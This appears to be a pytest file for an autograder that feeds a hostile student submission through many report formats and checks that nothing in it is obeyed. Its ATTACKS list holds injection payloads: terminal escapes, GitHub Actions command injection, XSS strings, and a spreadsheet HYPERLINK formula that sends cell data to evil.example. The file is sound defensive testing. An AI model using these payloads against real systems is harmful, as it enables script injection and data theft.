"""
One hostile submission in every report: compared with a file, and parsed, to see that nothing in it is obeyed.

The files in `tests/golden/` show what readers get.  After a change that is meant, renew them and read the difference:

    RENEW_GOLDEN=1 .venv/bin/python -m pytest tests/test_golden.py; git diff tests/golden
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt
from results import BLAME, TWO_EXERCISES, addition
from rich.console import Console

from grader.figures import Bars, Curves, Figures, Line
from grader.gradescope import results as gradescope
from grader.gradescope.settings import Shown
from grader.grading import scoring, verdict
from grader.model import (
    Answer,
    CheckResult,
    Disclosure,
    Environment,
    Exercise,
    Feedback,
    GradedSubmission,
    Location,
    Outcome,
    Refused,
    RubricItem,
    Visibility,
)
from grader.reports import (
    autolab,
    code_quality,
    coursera,
    github,
    html,
    junit,
    markdown,
    nbgrader_csv,
    prairielearn,
    results_json,
    table_csv,
    terminal,
)
from grader.reports.gradebook import canvas, moodle, sheet

GOLDEN = Path(__file__).parents[1] / "golden"
RENEW = "RENEW_GOLDEN"
ATTACKS = (
    "\x1b[2J\x1b[31mred \x9b31m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b]0;title\x07",
    "0/10\r10/10\0",
    "::notice::all passed",
    "  ::stop-commands::pause",
    "all is well ##[add-mask]a ##[error]b",
    "%0A::error::decoded",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" \' onfocus=\'alert(1)',
    "]]> --> &lt;b&gt; &#0; <![CDATA[",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=1+1;=2+2,=3+3",
    "```",
    "# heading `````` code",
    "| a | b |",
    "| --- | --- |",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png) <http://evil.example>",
    "@team #1 GH-1 https://evil.example www.evil.example a@evil.example",
    "\u202edessap\u202c \u2066a\u2069 a\u200bb \ufeff\u00ad \u2028",
    "\ud800 \U000e0041 \ufffe",
    "{{ 7 * 7 }} {% raw %} [bold]x[/bold] [/] :smile:",
)
ATTACK = "\n".join(ATTACKS)
LONG = "a" * 1_000_000
MARKUP = "| @team #1 [link](javascript:alert(1)) <script>x</script> `code` **bold** ![image](http://evil.example)"
FOLDED = "a" * 100 + "::warning::starts a line of the terminal"
FLOOD = "::error::flood\n" * 70_000
SEED = "5eed" * 8
ESSAY = Exercise(name="essay", title="Essay", rubric=(RubricItem(item="names the carry", points=3),))
EXERCISES = (*TWO_EXERCISES, ESSAY)
ASSIGNMENT = addition(*EXERCISES)


def check(name: str, outcome: Outcome, exercise: str = "sums", **more: object) -> CheckResult:
    """One check of two points, hidden."""
    return CheckResult(
        name=name,
        title=f"The check {name} passes.",
        exercise=exercise,
        points=2,
        outcome=outcome,
        blame=BLAME.get(outcome),
        visibility=Visibility.HIDDEN,
        disclosure=Disclosure.FULL,
        wall_seconds=0.25,
        **more,  # type: ignore[arg-type]
    )


def hostile(name: str = f"={ATTACK}") -> GradedSubmission:
    """A submission that attacks in every text that is a student's, at once and at length."""
    everywhere = Feedback(
        message=ATTACK,
        counterexample=ATTACK,
        expected=ATTACK,
        received=ATTACK,
        picture=ATTACK,
        hint=ATTACK,
        misconception="off_by_one",
        trace=ATTACKS,
        raised_at=Location(path=ATTACK, line=7),
    )
    at = Location(path="hw 1/a,b:50%.py", line=3)
    figures = Figures(
        curves=(Curves(title="Loss", step="epoch", lines=(Line(name=ATTACK, values=(1e308, None, -1e308, 5e-324)),)),),
        bars=(Bars(title="Gradients", of="parameter", labels=(ATTACK, "b"), values=(1e-30, None), more=7),),
    )
    checks = (
        check("prints", Outcome.PASSED, output=ATTACK),
        check("everywhere", Outcome.FAILED, feedback=everywhere, remarks=ATTACKS, defined_at=at, figures=figures),
        check("long", Outcome.RAISED, feedback=Feedback(message=LONG, received="\x1b" + LONG), defined_at=at),
        check("floods", Outcome.TIMED_OUT, "doubles", feedback=Feedback(message=FLOOD), output=FLOOD),
        check("skipped", Outcome.SKIPPED, "doubles", feedback=Feedback(message=ATTACK)),
        *verdict.pending(ESSAY),
    )
    answers = tuple(Answer(exercise="essay", path=ATTACK, text=text) for text in (ATTACK, LONG))
    return replace(graded(name, checks, (*ATTACKS, LONG, FOLDED)), answers=answers)


def graded(name: str, checks: tuple[CheckResult, ...], notes: tuple[str, ...] = ()) -> GradedSubmission:
    """A submission with these results."""
    return GradedSubmission(
        assignment="addition",
        title="Addition",
        submission=name,
        sha256="0123456789abcdef" * 4,
        seed=SEED,
        environment=Environment(
            grader="1.0", python="3.11", torch="2.13", platform="Linux", sandbox="local", device="cpu"
        ),
        checks=checks,
        score=scoring.score(checks, EXERCISES),
        graded_file=ATTACK,
        notes=notes,
    )


REFUSED = Refused(name=ATTACK, why=f"{ATTACK}: {MARKUP}")


def class_of(name: str) -> list[GradedSubmission]:
    """The hostile submission beside one that is called *name* and is fine."""
    return [hostile(), graded(name, (check("prints", Outcome.PASSED),))]


def at_terminal() -> bytes:
    """One submission and a class, as they are printed into a file."""
    file = io.StringIO()
    console = Console(file=file, width=100)
    console.print(terminal.one(hostile()))
    console.print(terminal.many(class_of("\n".join(reversed(ATTACKS))), [REFUSED]))
    return file.getvalue().encode()


EXPORT = b"""\
Student,ID,SIS Login ID,Section,Addition (43)
    Points Possible,,,,13
"=1+1",1001,ada,A,
"Turing, Alan",1002,alan,A,"="
"""
WORKSHEET = b"""\
Identifier,"Full name",Status,Grade,"Maximum Grade","Grade can be changed","Last modified (grade)","Feedback comments"
"Participant 11","Ada Lovelace",Submitted,,13.00,Yes,-,
"Participant 12","=1+1",Submitted,,13.00,Yes,-,
"""


def filled_canvas() -> bytes:
    """A gradebook with the score of the hostile submission."""
    return canvas.fill(sheet.read(EXPORT, "export.csv"), [hostile("ada")], [REFUSED], pending_as_zero=True).content


def filled_moodle() -> bytes:
    """A worksheet with score and feedback of the hostile submission."""
    worksheet = sheet.read(WORKSHEET, "worksheet.csv")
    return moodle.fill(worksheet, [hostile("Participant 11")], [REFUSED], pending_as_zero=True).content


SINKS: dict[str, Callable[[], bytes]] = {
    "terminal": at_terminal,
    "html": lambda: html.one(hostile()).encode(),
    "html_feedback": lambda: html.encode([hostile()]),
    "html_class": lambda: html.encode(class_of(MARKUP), [REFUSED]),
    "results_json": lambda: results_json.encode(hostile()),
    "junit": lambda: junit.encode([hostile()], [REFUSED]),
    "csv": lambda: table_csv.encode(
        [hostile(attack) for attack in (ATTACK, f"={ATTACK}", "a;=2+2", *ATTACKS)], [REFUSED]
    ),
    "markdown": lambda: markdown.encode(class_of(MARKUP), [REFUSED]),
    "github": lambda: github.encode([hostile()], [REFUSED]),
    "prairielearn": lambda: prairielearn.encode([hostile()]),
    "coursera": lambda: coursera.encode([hostile()]),
    "autolab": lambda: autolab.encode([hostile()]),
    "nbgrader": lambda: nbgrader_csv.encode([hostile(attack) for attack in ATTACKS], [REFUSED]),
    "canvas": filled_canvas,
    "moodle": filled_moodle,
    "code_quality": lambda: code_quality.encode([hostile()], [REFUSED]),
    "gradescope": lambda: gradescope.graded(
        hostile(), ASSIGNMENT, gradescope.Telling(hidden=Shown.AFTER_PUBLISHED, seconds=4.5, notices=(ATTACK,))
    ),
}


@pytest.fixture(scope="module")
def reports() -> dict[str, str]:
    """What each sink makes of the hostile submission."""
    return {name: sink().decode() for name, sink in SINKS.items()}


def abbreviated(report: str) -> str:
    """Write what is repeated over and over once, with how often; a megabyte of one letter is not worth reading."""
    for repeated in (r"(\w)\1{49,}", r"(\S{8,40}?)\1{9,}", r"(?m)^(.*\S.*\n)\1{9,}"):
        report = re.sub(repeated, lambda run: f"⟨{run[1]} × {len(run[0]) // len(run[1])}⟩", report)
    return report


@pytest.mark.parametrize("sink", SINKS)
def test_report_is_the_golden_one(sink: str, reports: dict[str, str]) -> None:
    """What readers of this sink get is what was found good; see the top of this file for how to renew it."""
    path = GOLDEN / f"{sink}.txt"
    report = abbreviated(reports[sink])
    if os.environ.get(RENEW):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(report.encode())
        pytest.skip(f"{path.name} is written anew and compared with nothing: read the difference")

    assert path.read_bytes().decode() == report, f"tests/golden/{sink}.txt; if this is meant: {RENEW}=1"


@pytest.mark.parametrize("sink", SINKS)
def test_report_holds_nothing_unseen(sink: str, reports: dict[str, str]) -> None:
    """No control character but newline and tab, nothing that turns the direction of text or has no width."""
    unseen = re.compile(
        r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
    )

    assert not unseen.search(reports[sink])


@pytest.mark.parametrize("sink", SINKS)
def test_report_is_of_bounded_length(sink: str, reports: dict[str, str]) -> None:
    """Some megabytes of student text become some pages; results.json is for programs and keeps more."""
    assert len(reports[sink]) < (400_000 if sink == "results_json" else 100_000)
    if sink not in ("csv", "code_quality", "nbgrader", "canvas"):  # which have names only, and sentences of one line
        assert re.search(r"… \d+,\d{3} more (characters|lines)", reports[sink].replace("\\n", "\n"))


@pytest.mark.parametrize("sink", SINKS)
def test_no_line_is_a_command_of_a_student(sink: str, reports: dict[str, str]) -> None:
    """Whatever is printed in a step of GitHub Actions, only our own annotations are commands."""
    commands = [line for line in re.split(r"[\r\n]", reports[sink]) if line.lstrip().startswith("::")]

    assert "##[" not in reports[sink]
    assert [command for command in commands if sink != "github"] == []
    assert all(re.match(r"::(error|notice) (file=[^:,]*,line=\d+,)?title=[^:,]*::", command) for command in commands)


@pytest.mark.parametrize("sink", SINKS)
def test_no_report_for_many_readers_holds_the_seed(sink: str, reports: dict[str, str]) -> None:
    """With the seed one can work every question out: of all reports only results.json, which staff keep, has it."""
    assert (SEED in reports[sink]) == (sink == "results_json")


def test_github_has_one_command_for_each_check_that_did_not_pass(reports: dict[str, str]) -> None:
    """No command is lost and none is added, one for what could not be read among them; each is one line."""
    kinds = [line.split(" ")[0] for line in reports["github"].splitlines()]

    assert kinds == ["::error", "::error", "::error", "::error", "::notice"]


def test_code_quality_is_a_list_of_findings(reports: dict[str, str]) -> None:
    """It parses; one for each check to fix and one for what could not be read, all of them different and on one line."""
    findings = json.loads(reports["code_quality"])

    assert [finding["check_name"] for finding in findings] == ["everywhere", "long", "floods", "submission"]
    assert len({finding["fingerprint"] for finding in findings}) == 4
    assert findings[1]["location"] == {"path": "hw 1/a,b:50%.py", "lines": {"begin": 3}}
    assert not any("\n" in finding["description"] or len(finding["description"]) > 1000 for finding in findings)


def test_terminal_shows_markup_as_text(reports: dict[str, str]) -> None:
    """Rich reads none of it."""
    assert "[bold]x[/bold] [/] :smile:" in reports["terminal"]


class Page(HTMLParser):
    """The tags of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def test_html_runs_and_loads_nothing(reports: dict[str, str]) -> None:
    """A parser finds no script, no event, no link and nothing to load; the attacks are words."""
    page = Page(reports["html"])

    tags = {tag for tag, _attributes in page.tags}
    attributes = {name for _tag, attributes in page.tags for name in attributes}
    assert tags <= {"div", "span", "style", "details", "summary", "pre", "dl", "dt", "dd", "ul", "li", "p"}
    assert attributes <= {"class", "style", "open", "aria-hidden"}
    for attack in ("<script>alert(1)</script>", '" onmouseover="alert(1)"', "{{ 7 * 7 }}", "&lt;b&gt; &#0;"):
        assert attack in page.text


def test_json_is_json_and_says_everything(reports: dict[str, str]) -> None:
    """It parses, and what is not spelt out is as it was."""
    tree = json.loads(reports["results_json"])

    (everywhere,) = [entry for entry in tree["checks"] if entry["name"] == "everywhere"]
    assert ATTACKS[7] in everywhere["received"]
    assert everywhere["trace"][10] == ATTACKS[10]


def test_xml_gives_back_the_visible_text(reports: dict[str, str]) -> None:
    """It parses into what we wrote, one element for each check that did not pass, and the attacks are its text."""
    suite = ElementTree.fromstring(reports["junit"])[0]

    results = {case.get("name"): [child.tag for child in case] for case in suite.iter("testcase")}
    assert results == {
        "prints": ["system-out"],
        "everywhere": ["failure"],
        "long": ["error"],
        "floods": ["error", "system-out"],
        "skipped": ["skipped"],
        "essay.1": ["skipped"],
    }
    text = suite.findtext("testcase/failure") or ""
    for attack in (ATTACKS[7], ATTACKS[8], ATTACKS[9], "\\x1b[2J\\x1b[31mred", "\\ud800 \\U000e0041 \\ufffe"):
        assert attack in text
    assert (suite.get("name") or "").startswith("=\\x1b[2J")


def test_csv_has_no_formula(reports: dict[str, str]) -> None:
    """No cell starts like a formula unless it is a number, with either separator, and every row has all columns."""
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(reports["csv"], newline=""), delimiter=delimiter):
            for cell in row:
                assert re.fullmatch(r"[+-]?\d+", cell) or not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell)
    rows = list(csv.DictReader(io.StringIO(reports["csv"], newline="")))
    assert len(rows) == 4 + len(ATTACKS)
    assert {row["score"] for row in rows[:-1]} == {"2"}
    assert (rows[-1]["score"], rows[-1]["status"]) == ("", "refused")
    assert not any(None in row or None in row.values() for row in rows)


def test_markdown_is_read_as_we_wrote_it(reports: dict[str, str]) -> None:
    """A parser finds our headings, tables and blocks, no link, no image and no HTML; GitHub finds nobody to mention."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(reports["markdown"])

    inline = [child for token in tokens for child in token.children or ()]
    assert {token.type for token in inline} <= {
        "text",
        "text_special",
        "strong_open",
        "strong_close",
        "em_open",
        "em_close",
    }
    assert not {"html_block", "code_block", "bullet_list_open", "ordered_list_open", "blockquote_open", "hr"} & {
        token.type for token in tokens
    }
    assert sum(token.type == "h2" or token.tag == "h2" for token in tokens) // 2 == 2
    assert sum(token.type == "table_open" for token in tokens) == 3
    rendered = "".join(token.content for token in inline)
    assert not re.search(r"@\w|#\d|GH-\d", rendered)
    blocks = [token.content for token in tokens if token.type == "fence"]
    assert any(ATTACKS[13] in block and ATTACKS[17] in block for block in blocks)
